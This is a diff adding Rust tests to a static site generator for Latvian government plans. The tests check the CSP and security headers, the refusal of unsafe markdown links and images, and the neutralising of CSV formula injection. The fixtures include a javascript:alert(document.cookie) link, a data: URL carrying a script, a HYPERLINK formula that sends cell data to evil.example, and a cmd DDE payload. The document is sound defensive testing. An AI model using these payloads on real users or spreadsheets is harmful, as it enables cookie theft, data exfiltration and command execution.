@@ -2,7 +2,7 @@
 //! the pages: each page kind at its URL, escaping, footnotes, links, CSP-safe markup.
 
 use super::*;
-use crate::content::{Page, PageMeta};
+use crate::content::{BodyLocation, Page, PageMeta};
 use crate::model::{
     Abbreviation, Area, Chapter, Deadline, Direction, Footnote, Goal, Indicator, IndicatorRow,
     Measure, Plan, Status, TextBlock,
@@ -331,9 +331,17 @@ fn content() -> Content {
                 title: "Paziņojums par piekļūstamību".to_string(),
             },
             markdown: "## Statuss\n\nDaļēji atbilst. [Termiņi](/termini/)\n".to_string(),
+            location: BodyLocation {
+                file: "content/pages/pieejamiba.md".to_string(),
+                first_line: 4,
+            },
         }],
-        registry: crate::resolve::registry::Registry::parse(REGISTRY, "institutions.toml")
-            .expect("the test registry"),
+        registry: crate::resolve::registry::Registry::parse(
+            REGISTRY,
+            "institutions.toml",
+            &mut Vec::new(),
+        )
+        .expect("the test registry"),
         ..Content::default()
     }
 }
@@ -546,11 +554,25 @@ fn deadlines_and_glossary() {
 #[test]
 fn pages_are_accessible_and_csp_safe() {
     let site = site();
+    let meta = format!(
+        "<meta http-equiv=\"Content-Security-Policy\" content=\"{}\">",
+        policy::META_POLICY
+    );
+    let mut pages = 0;
     for (path, html) in html_pages(&site) {
+        pages += 1;
         assert!(
             html.starts_with("<!doctype html>\n<html lang=\"lv\">"),
             "{path}"
         );
+        // In the head, before anything it governs is requested.
+        let head = &html[..html.find("</head>").expect("a head")];
+        assert!(
+            head.find(&meta)
+                .is_some_and(|at| at < head.find("<link").unwrap_or(usize::MAX)),
+            "{path}: the CSP meta is missing or comes after a <link>"
+        );
+        assert!(!html.contains("javascript:"), "{path}");
         assert_eq!(html.matches("<h1").count(), 1, "{path}: one h1");
         assert!(!html.contains("style="), "{path}: inline style");
         assert!(!html.contains("<style"), "{path}: style element");
@@ -581,6 +603,199 @@ fn pages_are_accessible_and_csp_safe() {
             );
         }
     }
+    // Every kind: home, plans, directions, measures, areas, indicators, chapters, the source
+    // viewer, institutions, deadlines, status, glossary, search, budget, editorial and 404.
+    assert!(pages > 30, "{pages} pages");
+    assert!(site.files.contains_key("404.html"));
+}
+
+#[test]
+fn the_headers_file_carries_the_policy_for_the_sites_path() {
+    let site = site();
+    let headers = site.text("_headers").expect("a _headers file");
+    assert!(headers.contains("\n/portals/*\n"), "{headers}");
+    for (name, value) in policy::security_headers() {
+        assert!(
+            headers.contains(&format!("\n  {name}: {value}\n")),
+            "{name} in {headers}"
+        );
+    }
+}
+
+/// README's nginx and Apache snippets must send what the pages and `_headers` declare.
+#[test]
+fn the_readme_hosting_snippets_send_the_sites_headers() {
+    let readme = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/README.md"))
+        .expect("README.md");
+    let hosting = readme
+        .split("\n## Hosting")
+        .nth(1)
+        .expect("a Hosting section")
+        .split("\n## ")
+        .next()
+        .unwrap_or_default();
+    for (name, value) in policy::security_headers() {
+        assert!(
+            hosting.contains(&format!("add_header {name} \"{value}\" always;")),
+            "nginx: {name}: {value}"
+        );
+        assert!(
+            hosting.contains(&format!("Header always set {name} \"{value}\"")),
+            "Apache: {name}: {value}"
+        );
+    }
+    assert!(hosting.contains(policy::META_POLICY));
+}
+
+/// The accessibility statement with a hostile link and a tracking pixel, as the content folder
+/// would give it (body from line 4, after the front matter).
+fn hostile_content() -> Content {
+    let mut content = content();
+    content.pages[0].markdown = "## Statuss\n\nDaļēji atbilst. [Termiņi](/termini/)\n\n\
+         Ja atbilde neapmierina, vērsieties [Tiesībsarga birojā](javascript:alert(document.cookie)).\n\
+         ![](https://tracker.example/p.gif)\n"
+        .to_string();
+    content.plans.push(crate::content::PlanContent {
+        slug: "organizeta".to_string(),
+        source_line: 2,
+        meta: toml::from_str("source = \"000_d0f431797d704579.txt\"\nstructure = \"action-plan\"")
+            .unwrap(),
+        intro_markdown: "Īstermiņa plāns.\n\n[Plāns](DATA:text/html,<script>alert(1)</script>)\n"
+            .to_string(),
+        location: BodyLocation {
+            file: "content/plans/organizeta.md".to_string(),
+            first_line: 6,
+        },
+    });
+    content
+}
+
+#[test]
+fn refused_markdown_is_reported_with_the_content_file_and_line() {
+    let found: Vec<String> = content_diagnostics(&hostile_content())
+        .iter()
+        .map(ToString::to_string)
+        .collect();
+    assert_eq!(
+        found,
+        [
+            "content/plans/organizeta.md:8: warning: link to \"DATA:text/html,<script>alert(1)</script>\" \
+             refused: only http(s), mailto, relative and # links are allowed; shown as plain text",
+            "content/pages/pieejamiba.md:8: warning: link to \"javascript:alert(document.cookie)\" \
+             refused: only http(s), mailto, relative and # links are allowed; shown as plain text",
+            "content/pages/pieejamiba.md:9: warning: image \"https://tracker.example/p.gif\" \
+             refused: pages load nothing from other sites; shown as a link to it",
+        ]
+    );
+    assert!(content_diagnostics(&content()).is_empty());
+}
+
+#[test]
+fn refused_markdown_is_text_on_the_pages() {
+    let site = render(&library(), &hostile_content(), &options()).expect("renders");
+    let statement = page(&site, "pieejamiba/index.html");
+    assert!(statement.contains("vērsieties Tiesībsarga birojā."));
+    assert!(statement
+        .contains("<a href=\"https://tracker.example/p.gif\">https://tracker.example/p.gif</a>"));
+    let plan = page(&site, "plani/organizeta/index.html");
+    assert!(plan.contains("<p>Plāns</p>"), "{plan}");
+    for (path, html) in html_pages(&site) {
+        assert!(!html.contains("<img"), "{path}");
+        assert!(
+            !html.to_lowercase().contains("href=\"javascript:"),
+            "{path}"
+        );
+        assert!(!html.to_lowercase().contains("href=\"data:"), "{path}");
+    }
+}
+
+/// Document text that a spreadsheet would run as a formula, in every kind of CSV cell: measure
+/// titles and institutions, indicator values, budget programme names; and a negative amount.
+#[test]
+fn csv_cells_that_would_start_a_formula_are_neutralised_and_numbers_stay_numbers() {
+    use crate::model::budget::{Budget, FundingKind};
+    let hostile = [
+        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Sīkāk\")",
+        "+371 67219263",
+        "-Apmācīt VP darbiniekus",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\tPilnveidot TAI sadarbību",
+        "\rIzveidot CERT.LV",
+    ];
+    let mut library = library();
+    for (measure, text) in library.plans[0].measures.iter_mut().zip(&hostile) {
+        measure.title = text.to_string();
+    }
+    library.plans[0].measures[0].responsible = vec![hostile[0].to_string()];
+    library.plans[2].areas[0].goals[0].indicators[0].rows[0].baseline = "+10%".to_string();
+    library.plans[0].budget = Budget {
+        lines: vec![
+            funding_line("06.01.00", hostile[0], FundingKind::Planned, 2023, -150_050),
+            funding_line(
+                "42.00.00",
+                "Iekšējās drošības birojs",
+                FundingKind::Planned,
+                2024,
+                380_000,
+            ),
+        ],
+        ..Budget::default()
+    };
+    let site = render(&library, &content(), &options()).expect("renders");
+    let csv_files: Vec<&String> = site.files.keys().filter(|p| p.ends_with(".csv")).collect();
+    assert_eq!(
+        csv_files,
+        [
+            "data/budget.csv",
+            "data/indicators.csv",
+            "data/institutions.csv",
+            "data/measures.csv"
+        ]
+    );
+    let mut cells = Vec::new();
+    for path in csv_files {
+        let mut reader = csv::Reader::from_reader(site.files[path].as_slice());
+        let header = reader.headers().unwrap().clone();
+        for row in reader.records() {
+            for (column, cell) in header.iter().zip(row.unwrap().iter()) {
+                cells.push((path.as_str(), column.to_string(), cell.to_string()));
+            }
+        }
+    }
+    for (path, column, cell) in &cells {
+        let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+        assert!(
+            !formula || cell.parse::<f64>().is_ok(),
+            "{path} {column}: {cell:?} starts a formula"
+        );
+    }
+    let read_back = |path: &str, column: &str| -> Vec<&str> {
+        cells
+            .iter()
+            .filter(|(p, c, _)| *p == path && c == column)
+            .map(|(_, _, cell)| cell.as_str())
+            .collect()
+    };
+    let titles = read_back("data/measures.csv", "title");
+    for text in &hostile[..3] {
+        assert!(
+            titles.contains(&format!("'{text}").as_str()),
+            "{text:?} in {titles:?}"
+        );
+    }
+    assert!(read_back("data/measures.csv", "responsible")
+        .contains(&format!("'{}", hostile[0]).as_str()));
+    assert!(read_back("data/indicators.csv", "baseline").contains(&"'+10%"));
+    assert_eq!(
+        read_back("data/budget.csv", "program_name")[0],
+        format!("'{}", hostile[0])
+    );
+    // The amount column stays numeric: a reduction is a negative number a spreadsheet can add.
+    assert_eq!(read_back("data/budget.csv", "amount"), ["-1500.50", "3800"]);
+    // The JSON carries the text unchanged.
+    let json: serde_json::Value =
+        serde_json::from_str(site.text("data/measures.json").unwrap()).unwrap();
+    assert_eq!(json[0]["title"], hostile[0]);
 }
 
 #[test]
